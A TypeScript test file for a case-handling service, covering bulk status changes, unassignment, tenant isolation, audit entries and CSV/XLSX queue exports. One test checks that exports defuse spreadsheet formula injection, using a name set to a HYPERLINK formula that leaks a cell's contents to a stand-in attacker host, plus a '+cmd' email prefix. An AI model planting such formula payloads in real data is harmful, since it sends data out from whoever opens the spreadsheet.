import { parse } from 'csv-parse/sync';
import { and, eq, inArray } from 'drizzle-orm';
import { inflateRawSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { auditEvent } from '../audit/audit.tables';
import { user } from '../auth/auth.tables';
import { readSpreadsheet } from '../spreadsheets/spreadsheet';
import { seedGuides } from '../guides/guides.service';
import { mailMessage } from '../mail/mail.tables';
import type { RunningPlatform } from '../boot/platform';
import { failure } from '../testing/assertions';
import { contextFor, makeUser } from '../testing/factories';
import { createTestPlatform } from '../testing/platform';
import { bulkCaseStatus, bulkUnassign } from './case-bulk.service';
import { exportCases } from './case-export.service';
import { assignCases, changeCaseStatus, getCase } from './case-handling.service';
import { submitRequest } from './cases.service';
import { caseEvent, welcomeCase } from './cases.tables';
import { incomingProfile } from './incoming.tables';
import { files, PDF, welcomeSetting } from './welcome.testkit';

let platform: RunningPlatform;
beforeAll(async () => {
	platform = await createTestPlatform();
	await seedGuides(platform);
});
afterAll(async () => platform?.close());

type Setting = Awaited<ReturnType<typeof welcomeSetting>>;
const request = (s: Setting, flight: string) => submitRequest(s.me, s.pickup.id, { submissionKey: crypto.randomUUID(), flight }, files({ 'doc.passport': { name: 'passport.pdf', bytes: PDF } }));
const eventsOf = (caseId: string) => platform.db.select().from(caseEvent).where(eq(caseEvent.caseId, caseId)).orderBy(caseEvent.seq);
const statusMails = (to: string) => platform.db.select().from(mailMessage).where(and(eq(mailMessage.to, to), eq(mailMessage.template, 'case_status')));
const key = () => crypto.randomUUID();

/** The export's bytes, as a browser would download them. */
async function download(file: { body: unknown }) {
	return new Uint8Array(await new Response(file.body as BodyInit).arrayBuffer());
}
const csvRows = (bytes: Uint8Array) => parse(new TextDecoder().decode(bytes), { bom: true }) as string[][];

describe('bulk status changes from the queue', () => {
	it('change each case as if one by one: its event, its audit entry, and a mail to the applicant after the commit', async () => {
		const s = await welcomeSetting(platform);
		const [a, b] = [await request(s, 'KC 901'), await request(s, 'KC 902')];
		const mailsBefore = (await statusMails(s.student.email)).length;
		const result = await bulkCaseStatus(s.staff, s.inst.id, [a.id, b.id], { status: 'waiting', reason: '', submissionKey: key() });
		expect(result).toMatchObject({ action: 'status', status: 'waiting', changed: [a.number, b.number], skipped: { closed: [], same: [], unassigned: [] }, repeated: false });
		for (const c of [a, b]) {
			const seen = await getCase(s.staff, s.inst.id, c.id);
			expect(seen.case).toMatchObject({ status: 'waiting', assigneeId: s.staff.actor!.userId });
			expect(seen.events.filter((e) => e.kind === 'status').map((e) => e.data)).toEqual([{ from: 'submitted', to: 'waiting' }]);
			// No one handled it: whoever changes it takes it, as on the case page.
			expect(seen.events.filter((e) => e.kind === 'assigned').map((e) => e.data)).toEqual([{ to: s.staff.actor!.userId }]);
		}
		const audit = await platform.db.select().from(auditEvent).where(and(eq(auditEvent.action, 'case.status'), inArray(auditEvent.entityId, [a.id, b.id])));
		expect(audit.map((e) => e.changes.status)).toEqual([
			{ from: 'submitted', to: 'waiting' },
			{ from: 'submitted', to: 'waiting' }
		]);
		// The applicant (who reads Russian) gets one mail per case, in Russian.
		const mails = await statusMails(s.student.email);
		expect(mails.length - mailsBefore).toBe(2);
		expect(mails.at(-1)!.locale).toBe('ru');
	});

	it('declines only with one reason for all, which each applicant reads; errors name every field at once', async () => {
		const s = await welcomeSetting(platform);
		const [a, b] = [await request(s, 'KC 903'), await request(s, 'KC 904')];
		const refused = await failure(bulkCaseStatus(s.staff, s.inst.id, [a.id, b.id], { status: 'declined', reason: '   ', submissionKey: key() }));
		expect(refused.fields).toEqual({ reason: 'error_decline_reason' });
		expect((await failure(bulkCaseStatus(s.staff, s.inst.id, [], { status: 'submitted', reason: '' }))).fields).toEqual({ cases: 'error_choose_at_least_one', status: 'error_choose_one' });
		expect((await getCase(s.staff, s.inst.id, a.id)).case.status).toBe('submitted');

		await bulkCaseStatus(s.staff, s.inst.id, [a.id, b.id], { status: 'declined', reason: 'No more places on the bus this week.', submissionKey: key() });
		for (const c of [a, b]) {
			const seen = await getCase(s.staff, s.inst.id, c.id);
			expect(seen.case).toMatchObject({ status: 'declined', declineReason: 'No more places on the bus this week.' });
			expect(seen.case.closedAt).not.toBeNull();
			expect(seen.events.find((e) => e.kind === 'status')!.body).toBe('No more places on the bus this week.');
		}
	});

	it('reports the cases it did not change and why, instead of skipping them in silence', async () => {
		const s = await welcomeSetting(platform);
		const [done, waiting, fresh, declined] = [await request(s, 'KC 905'), await request(s, 'KC 906'), await request(s, 'KC 907'), await request(s, 'KC 908')];
		await changeCaseStatus(s.staff, s.inst.id, done.id, { status: 'done', reason: '', version: '1' });
		await changeCaseStatus(s.staff, s.inst.id, waiting.id, { status: 'waiting', reason: '', version: '1' });
		await changeCaseStatus(s.staff, s.inst.id, declined.id, { status: 'declined', reason: 'Duplicate', version: '1' });
		const before = await Promise.all([done, waiting, declined].map((c) => eventsOf(c.id)));

		const result = await bulkCaseStatus(s.staff, s.inst.id, [done.id, waiting.id, fresh.id, declined.id], { status: 'waiting', reason: '', submissionKey: key() });
		expect(result).toMatchObject({ changed: [fresh.number], skipped: { closed: [done.number, declined.number], same: [waiting.number], unassigned: [] } });
		expect(await Promise.all([done, waiting, declined].map((c) => eventsOf(c.id)))).toEqual(before);
		expect((await getCase(s.staff, s.inst.id, done.id)).case.status).toBe('done');
		expect((await getCase(s.staff, s.inst.id, fresh.id)).case.status).toBe('waiting');
	});

	it('answers 404 and changes nothing when a case of another institution is among those ticked', async () => {
		const s = await welcomeSetting(platform);
		const other = await welcomeSetting(platform);
		const mine = await request(s, 'KC 909');
		const theirs = await request(other, 'KC 910');
		expect((await failure(bulkCaseStatus(s.staff, s.inst.id, [mine.id, theirs.id], { status: 'in_progress', reason: '', submissionKey: key() }))).status).toBe(404);
		expect((await failure(bulkUnassign(s.staff, s.inst.id, [mine.id, theirs.id], { submissionKey: key() }))).status).toBe(404);
		expect((await failure(bulkCaseStatus(s.staff, s.inst.id, ['not-a-case'], { status: 'in_progress', reason: '' }))).status).toBe(404);
		// Another institution's staff in the case's own workspace: 404 too.
		expect((await failure(bulkCaseStatus(other.staff, s.inst.id, [mine.id], { status: 'in_progress', reason: '' }))).status).toBe(404);
		expect((await getCase(s.staff, s.inst.id, mine.id)).case.status).toBe('submitted');
		expect((await getCase(other.staff, other.inst.id, theirs.id)).case.status).toBe('submitted');
	});

	it('carries out a form sent twice once, also when both arrive at the same moment', async () => {
		const s = await welcomeSetting(platform);
		const [a, b] = [await request(s, 'KC 911'), await request(s, 'KC 912')];
		const form = { status: 'in_progress', reason: '', submissionKey: key() };
		const answers = await Promise.all([bulkCaseStatus(s.staff, s.inst.id, [a.id, b.id], form), bulkCaseStatus(s.staff, s.inst.id, [a.id, b.id], form)]);
		expect(answers.map((r) => r.repeated).sort()).toEqual([false, true]);
		expect(answers.find((r) => !r.repeated)!.changed).toEqual([a.number, b.number]);
		expect((await eventsOf(a.id)).filter((e) => e.kind === 'status')).toHaveLength(1);
		expect((await bulkCaseStatus(s.staff, s.inst.id, [a.id, b.id], form)).repeated).toBe(true);
	});

	it('unassigns the ticked cases, each with its event and audit entry, and names those no one handled', async () => {
		const s = await welcomeSetting(platform);
		const [a, b] = [await request(s, 'KC 913'), await request(s, 'KC 914')];
		await assignCases(s.admin, s.inst.id, [a.id], s.staff.actor!.userId);
		const result = await bulkUnassign(s.admin, s.inst.id, [a.id, b.id], { submissionKey: key() });
		expect(result).toMatchObject({ action: 'unassign', changed: [a.number], skipped: { unassigned: [b.number] } });
		expect((await getCase(s.staff, s.inst.id, a.id)).case.assigneeId).toBeNull();
		expect((await eventsOf(a.id)).filter((e) => e.kind === 'assigned').map((e) => e.data)).toEqual([{ to: s.staff.actor!.userId }, { to: null }]);
		const [audit] = await platform.db.select().from(auditEvent).where(and(eq(auditEvent.action, 'case.assign'), eq(auditEvent.entityId, a.id))).orderBy(auditEvent.id).offset(1);
		expect(audit!.changes).toEqual({ assigneeId: { from: s.staff.actor!.userId, to: null } });
	});
});

describe('the queue as a spreadsheet', () => {
	it('holds every case the filters select, all pages, in the staff member’s language, and no passport number', async () => {
		const s = await welcomeSetting(platform);
		const other = await welcomeSetting(platform);
		const a = await request(s, 'KC 915');
		const b = await request(s, 'KC 916');
		await request(other, 'KC 917');
		await changeCaseStatus(s.staff, s.inst.id, b.id, { status: 'waiting', reason: '', version: '1' });
		// A thousand more, so the export spans the queue's pages and its own batches.
		const snapshot = a.service;
		await platform.db.insert(welcomeCase).values(
			Array.from({ length: 1050 }, (_, i) => ({ institutionId: s.inst.id, number: 1000 + i, service: snapshot, serviceId: s.pickup.id, applicantId: null, status: 'in_progress' as const, dueOn: '2030-01-01', submissionKey: `bulk-${i}` }))
		);
		const ru = await contextFor(platform, s.staff.actor!.userId, 'ru');

		const rows = csvRows(await download(await exportCases(ru, s.inst.id, { status: 'waiting' }, 'csv')));
		expect(rows[0]).toEqual(['Номер обращения', 'Услуга', 'Заявитель', 'Эл. почта', 'Гражданство', 'Статус', 'Ответственный', 'Отправлено', 'Срок ответа', 'Просрочено', 'Закрыто', 'Последний ответ заявителя']);
		expect(rows.slice(1)).toHaveLength(1);
		const [row] = rows.slice(1);
		expect(row!.slice(0, 7)).toEqual([String(b.number), 'Airport pickup', `Test ${s.student.email}`, s.student.email, 'Германия', 'Ждёт ответа заявителя', `Test ${s.staff.actor!.email}`]);
		expect(row![7]).toMatch(/^\d{4}-\d\d-\d\d \d\d:\d\d$/);
		expect(row![8]).toBe(b.dueOn);
		expect(row![9]).toBe('Нет');
		expect(rows.flat().join(' ')).not.toContain('C01X00T47');

		// Every page of "all": the 1,052 cases of this institution, none of the other's, in the queue's order (due date).
		const all = csvRows(await download(await exportCases(ru, s.inst.id, { status: 'all', page: '3' }, 'csv'))).slice(1);
		expect(all).toHaveLength(1052);
		expect(all.map((r) => r[8])).toEqual(all.map((r) => r[8]).sort());
		const xlsx = await readSpreadsheet(await download(await exportCases(ru, s.inst.id, { status: 'all' }, 'xlsx')));
		expect(xlsx).toHaveLength(1053);
		expect(xlsx[0]).toEqual(rows[0]);
		expect(xlsx.slice(1).map((r) => String(r[0]))).toEqual(all.map((r) => r[0]));
		expect(xlsx.find((r) => r[0] === b.number)!.slice(1, 6)).toEqual(['Airport pickup', `Test ${s.student.email}`, s.student.email, 'Германия', 'Ждёт ответа заявителя']);
	});

	it('is for the institution’s case staff only, and every export is audited: who, which filters, how many rows', async () => {
		const s = await welcomeSetting(platform);
		const other = await welcomeSetting(platform);
		await request(s, 'KC 918');
		const editor = await contextFor(platform, (await makeUser(platform, { role: 'editor', institutionId: s.inst.id })).id);
		expect((await failure(exportCases(other.staff, s.inst.id, {}, 'csv'))).status).toBe(404);
		expect((await failure(exportCases(editor, s.inst.id, {}, 'csv'))).status).toBe(403);
		expect(await platform.db.select().from(auditEvent).where(and(eq(auditEvent.institutionId, s.inst.id), eq(auditEvent.action, 'case.export')))).toEqual([]);

		await download(await exportCases(s.staff, s.inst.id, { status: 'open', q: 'Test', assignee: 'none', page: '2' }, 'xlsx'));
		const [entry] = await platform.db.select().from(auditEvent).where(and(eq(auditEvent.institutionId, s.inst.id), eq(auditEvent.action, 'case.export')));
		expect(entry).toMatchObject({ actorUserId: s.staff.actor!.userId, actorEmail: s.staff.actor!.email, entityType: 'case_export' });
		expect(entry!.changes).toEqual({ format: { from: null, to: 'xlsx' }, filters: { from: null, to: { status: 'open', q: 'Test', assignee: 'none' } }, rows: { from: null, to: 1 } });
	});

	it('keeps text that a spreadsheet would run as a formula from running', async () => {
		const s = await welcomeSetting(platform);
		const c = await request(s, 'KC 919');
		const name = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
		await platform.db.update(user).set({ name, email: `+cmd${s.student.email}` }).where(eq(user.id, s.student.id));
		await platform.db.update(incomingProfile).set({ nationality: null }).where(eq(incomingProfile.userId, s.student.id));
		const [row] = csvRows(await download(await exportCases(s.staff, s.inst.id, {}, 'csv'))).slice(1);
		expect(row!.slice(0, 5)).toEqual([String(c.number), 'Airport pickup', `'${name}`, `'+cmd${s.student.email}`, '']);
		// In XLSX the cell is typed as text: the name comes back as written, and no formula is stored.
		const bytes = await download(await exportCases(s.staff, s.inst.id, {}, 'xlsx'));
		const [, cells] = await readSpreadsheet(bytes);
		expect(cells![2]).toBe(name);
		expect(sheetXml(bytes)).not.toContain('<f>');
	});
});

/** The worksheet's XML from an archive written by xlsx-stream (each entry followed by its descriptor, listed in the central directory). */
function sheetXml(bytes: Uint8Array) {
	const buf = Buffer.from(bytes);
	const end = buf.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
	let at = buf.readUInt32LE(end + 16);
	for (let i = 0; i < buf.readUInt16LE(end + 10); i++) {
		const size = buf.readUInt32LE(at + 20);
		const nameLength = buf.readUInt16LE(at + 28);
		const name = buf.subarray(at + 46, at + 46 + nameLength).toString();
		const offset = buf.readUInt32LE(at + 42);
		if (name === 'xl/worksheets/sheet1.xml') {
			const start = offset + 30 + buf.readUInt16LE(offset + 26);
			return inflateRawSync(buf.subarray(start, start + size)).toString();
		}
		at += 46 + nameLength;
	}
	throw new Error('no sheet');
}
